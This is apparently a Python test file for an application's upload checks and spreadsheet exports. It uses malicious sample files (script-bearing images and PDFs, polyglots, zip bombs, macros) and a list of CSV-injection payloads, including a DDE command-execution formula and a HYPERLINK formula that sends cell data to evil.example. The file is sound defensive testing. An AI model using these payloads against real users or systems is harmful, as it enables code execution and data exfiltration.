"""The upload checks judge a file by its bytes, refuse each kind's malicious files with a clear
reason in both languages, read spreadsheets under caps without evaluating a formula, and every
export escapes what a spreadsheet would take for a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from PIL import Image, PngImagePlugin

from domain import uploads
from domain.messages import Lang
from domain.spreadsheets import csv_bytes, escape_cell, read_rows, xlsx_bytes
from domain.uploads import FileRefused, MediaType, UploadKind, check
from tests import samples

GOOD = [
    (UploadKind.spreadsheet, b"property_number,kind\n1,pc\n", MediaType.csv),
    (UploadKind.spreadsheet, "\ufeffشماره اموال,نوع\n۱,رایانه\n".encode(), MediaType.csv),
    (UploadKind.spreadsheet, samples.xlsx([["a", 1]]), MediaType.xlsx),
    (UploadKind.pdf, samples.pdf(), MediaType.pdf),
    (UploadKind.image, samples.png(), MediaType.png),
    (UploadKind.image, samples.jpeg(), MediaType.jpeg),
]


@pytest.mark.parametrize(("kind", "data", "media_type"), GOOD)
def test_good_files_pass_as_their_bytes_say(
    kind: UploadKind, data: bytes, media_type: MediaType
) -> None:
    checked = check(data, kind)
    assert (checked.kind, checked.media_type) == (kind, media_type)
    if kind is UploadKind.image:
        assert _pixels(checked.data) == _pixels(data)  # re-encoded: the picture, nothing else
    else:
        assert checked.data == data


def _pixels(data: bytes) -> tuple[str, tuple[int, int], bytes]:
    with Image.open(io.BytesIO(data)) as image:
        return image.mode, image.size, image.convert("RGB").tobytes()


def test_an_image_is_kept_without_its_metadata() -> None:
    """EXIF (camera, place, time) and text chunks are the sender's, not the picture's."""
    exif = Image.Exif()
    exif[0x010F] = "CameraMaker"
    exif[0x0132] = "2020:01:01 10:00:00"
    photo = io.BytesIO()
    Image.new("RGB", (20, 10), (9, 9, 9)).save(photo, "JPEG", exif=exif.tobytes())
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "a name to keep private")
    scan = io.BytesIO()
    Image.new("P", (5, 5)).save(scan, "PNG", pnginfo=text)
    for data, secret in ((photo.getvalue(), b"CameraMaker"), (scan.getvalue(), b"private")):
        assert secret in data
        checked = check(data, UploadKind.image)
        assert secret not in checked.data
        with Image.open(io.BytesIO(checked.data)) as image:
            assert not image.getexif() and "Author" not in image.info


def _refused(data: bytes, kind: UploadKind) -> FileRefused:
    with pytest.raises(FileRefused) as raised:
        check(data, kind)
    error = raised.value
    assert error.field == "file"
    reasons = error.reasons()
    assert reasons[Lang.fa] and reasons[Lang.en] and reasons[Lang.fa] != reasons[Lang.en]
    return error


PNG = samples.png()
JPEG = samples.jpeg()
MALICIOUS = {
    # spreadsheets
    "csv-with-nul": (UploadKind.spreadsheet, b"property_number,kind\n1,p\x00c\n", "file_format"),
    "csv-not-utf8": (UploadKind.spreadsheet, b"property_number,kind\n1,\xff\xfe\n", "file_format"),
    "csv-utf16": (UploadKind.spreadsheet, "a,b\n".encode("utf-16"), "file_format"),
    "csv-that-is-html": (UploadKind.spreadsheet, samples.HTML, "file_unsafe"),
    "xlsx-zip-bomb": (UploadKind.spreadsheet, samples.xlsx_bomb(), "file_unpacks_too_large"),
    "xlsx-without-workbook": (
        UploadKind.spreadsheet,
        samples.rezip(samples.xlsx([["a"]]), drop=("xl/workbook.xml",)),
        "file_format",
    ),
    "xlsx-with-macros": (
        UploadKind.spreadsheet,
        samples.rezip(samples.xlsx([["a"]]), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "file_unsafe",
    ),
    "zip-not-xlsx": (UploadKind.spreadsheet, b"PK\x03\x04 no zip at all", "file_format"),
    "pdf-as-spreadsheet": (UploadKind.spreadsheet, samples.pdf(), "file_format"),
    # PDF
    "pdf-that-is-html": (UploadKind.pdf, samples.HTML, "file_not_pdf"),
    "pdf-that-is-png": (UploadKind.pdf, PNG, "file_not_pdf"),
    "pdf-cut-short": (UploadKind.pdf, samples.pdf()[:-40], "file_damaged"),
    "pdf-with-javascript": (
        UploadKind.pdf,
        samples.pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
        "file_unsafe",
    ),
    "pdf-html-polyglot": (
        UploadKind.pdf,
        b"%PDF-1.4\n" + samples.HTML + samples.pdf(),
        "file_unsafe",
    ),
    "pdf-zip-polyglot": (UploadKind.pdf, samples.pdf() + samples.xlsx([["a"]]), "file_damaged"),
    # images
    "png-wrong-magic": (UploadKind.image, b"\x89PNX\r\n\x1a\n" + PNG[8:], "file_not_image"),
    "png-that-is-html": (UploadKind.image, samples.HTML, "file_not_image"),
    "png-with-js-payload": (
        UploadKind.image,
        PNG[:33]
        + b"\x00\x00\x00\x1ftEXtComment\x00<script>alert(1)</script>\x00\x00\x00\x00"
        + PNG[33:],
        "file_unsafe",
    ),
    "png-zip-polyglot": (UploadKind.image, PNG + samples.xlsx([["a"]]), "file_unsafe"),
    "png-html-appended": (UploadKind.image, PNG + samples.HTML, "file_unsafe"),
    "png-truncated": (UploadKind.image, PNG[:-20], "file_damaged"),
    "jpeg-html-appended": (UploadKind.image, JPEG + samples.HTML, "file_unsafe"),
    "jpeg-with-script-comment": (
        UploadKind.image,
        JPEG[:2] + b"\xff\xfe\x00\x1a<script>alert(1)</script>" + JPEG[2:],
        "file_unsafe",
    ),
    "jpeg-truncated": (UploadKind.image, JPEG[: len(JPEG) // 2], "file_damaged"),
    "empty": (UploadKind.image, b"", "file_empty"),
}


@pytest.mark.parametrize("name", list(MALICIOUS))
def test_malicious_files_are_refused_with_a_clear_reason(name: str) -> None:
    kind, data, code = MALICIOUS[name]
    assert _refused(data, kind).code == code


def test_the_name_or_a_claimed_type_plays_no_part() -> None:
    """`check` takes bytes only: a PNG is an image whatever it was called, HTML never is."""
    assert check(PNG, UploadKind.image).media_type is MediaType.png
    assert "filename" not in check.__code__.co_varnames


def test_size_limits_per_kind() -> None:
    assert uploads.MAX_BYTES[UploadKind.image] < uploads.MAX_BYTES[UploadKind.pdf]
    error = _refused(bytes(uploads.MAX_BYTES[UploadKind.image] + 1), UploadKind.image)
    assert error.code == "file_too_large"
    assert "5" in error.reason(Lang.en) and "۵" in error.reason(Lang.fa)
    with pytest.raises(FileRefused) as raised:
        check(PNG, UploadKind.image, limit=10)
    assert raised.value.code == "file_too_large"


def test_image_dimensions_are_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "IMAGE_MAX_SIDE", 100)
    assert check(samples.png(100, 10), UploadKind.image)
    assert _refused(samples.png(101, 10), UploadKind.image).code == "image_too_large"


def test_csv_line_count_is_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "CSV_MAX_LINES", 3)
    assert check(b"a\n1\n2\n", UploadKind.spreadsheet)
    assert _refused(b"a\n1\n2\n3\n", UploadKind.spreadsheet).code == "too_many_rows"


def test_xlsx_total_unpacked_size_is_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "XLSX_MAX_UNZIPPED_BYTES", 1024)
    data = samples.xlsx([["x" * 2000]])
    assert _refused(data, UploadKind.spreadsheet).code == "file_unpacks_too_large"


# --- reading spreadsheets -------------------------------------------------------------------


def rows_of(data: bytes, **caps: int) -> list[list[object]]:
    caps = {"max_rows": 100, "max_columns": 10, **caps}
    return list(read_rows(check(data, UploadKind.spreadsheet), **caps))


def test_a_formula_is_never_evaluated() -> None:
    """A formula cell gives only the text its sender's spreadsheet saved; a cell typed as the
    text `=HYPERLINK(...)` stays that text (and is escaped on any export)."""
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    typed = link.replace("&", "&amp;")
    data = samples.xlsx_with_sheet_xml(
        '<row r="1">'
        '<c r="A1" t="str"><f>HYPERLINK("http://evil.example/?"&amp;B1,"click")</f><v>click</v></c>'
        '<c r="B1"><f>1+1</f></c>'
        f'<c r="C1" t="inlineStr"><is><t>{typed}</t></is></c>'
        "</row>"
    )
    [row] = rows_of(data)
    assert row[:3] == ["click", None, link]
    assert escape_cell(row[2]) == "'" + link


def test_rows_and_columns_are_capped() -> None:
    data = "h\n" + "".join(f"{i}\n" for i in range(5))
    assert len(rows_of(data.encode(), max_rows=5)) == 6
    with pytest.raises(FileRefused) as raised:
        rows_of(data.encode(), max_rows=4)
    assert raised.value.code == "too_many_rows"
    with pytest.raises(FileRefused) as raised:
        rows_of(samples.xlsx([["a", "b", "c"]]), max_columns=2)
    assert raised.value.code == "too_many_columns"
    assert rows_of(samples.xlsx([["a", "b", None]]), max_columns=2) == [["a", "b", None]]


# --- exports: CSV injection -------------------------------------------------------------------

DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_escape_cell(text: str) -> None:
    assert escape_cell(text) == "'" + text


def test_escape_cell_leaves_the_rest() -> None:
    for value in ("علی", "09121234567", "a=b", "", -5, 3.5, None):
        assert escape_cell(value) == value


def test_csv_export_escapes_every_cell() -> None:
    data = csv_bytes([["name", "note"], *[["x", t] for t in DANGEROUS], ["مریم", -3]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r[1] for r in rows[1:-1]] == ["'" + t for t in DANGEROUS]
    assert rows[-1] == ["مریم", "-3"]
    # What an export writes, an upload reads back: it passes the upload checks.
    assert check(data, UploadKind.spreadsheet).media_type is MediaType.csv


def test_xlsx_export_escapes_and_writes_no_formula() -> None:
    data = xlsx_bytes([["note"], *[[t] for t in DANGEROUS], [-3]])
    check(data, UploadKind.spreadsheet)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c.value for c in sheet["A"]][1:]
    # XML keeps a lone CR as a line feed; the cell still starts with the quote.
    assert cells == ["'" + t.replace("\r", "\n") for t in DANGEROUS] + [-3]
    assert all(c.data_type != "f" for c in sheet["A"])
